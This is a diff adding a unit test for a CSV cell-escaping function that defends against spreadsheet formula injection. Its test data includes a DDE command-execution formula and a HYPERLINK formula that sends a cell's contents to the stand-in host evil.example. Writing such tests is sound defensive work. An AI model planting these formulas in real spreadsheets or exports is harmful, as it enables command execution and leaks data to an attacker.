@@ -18,6 +18,24 @@ describe("csvCell", () => {
     expect(csvCell(text)).toBe(`'${text}`);
   });
 
+  it("keeps every formula of a grammar from being run, whatever stands before it and around it", () => {
+    const before = ["", " ", "\t", "\r", "\n", "\u00a0", "\u3000", "\ufeff", "\u200b", " \t "];
+    const signs = [..."=+-@\uff1d\uff0b\uff0d\uff20"];
+    const calls = [
+      "1+1",
+      "cmd|' /C calc'!A0",
+      'HYPERLINK("https://evil.example?x="&A1,"字")',
+      "IMPORTXML(A1;B1)",
+      "x,y\n=1",
+    ];
+    const cells = before.flatMap((space) => signs.flatMap((sign) => calls.map((call) => space + sign + call)));
+    expect(cells).toHaveLength(400);
+    // As a spreadsheet reads it: out of its quotes, and whole.
+    const read = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
+    expect(cells.filter((text) => read(csvCell(text)) !== `'${text}`)).toEqual([]);
+    expect(cells.map(csvCell).filter((cell) => /[",\r\n]/.test(cell) && !/^"(?:[^"]|"")*"$/.test(cell))).toEqual([]);
+  });
+
   it("does both where both are needed", () => {
     expect(csvCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
     expect(csvCell("\rx")).toBe(`"'\rx"`);
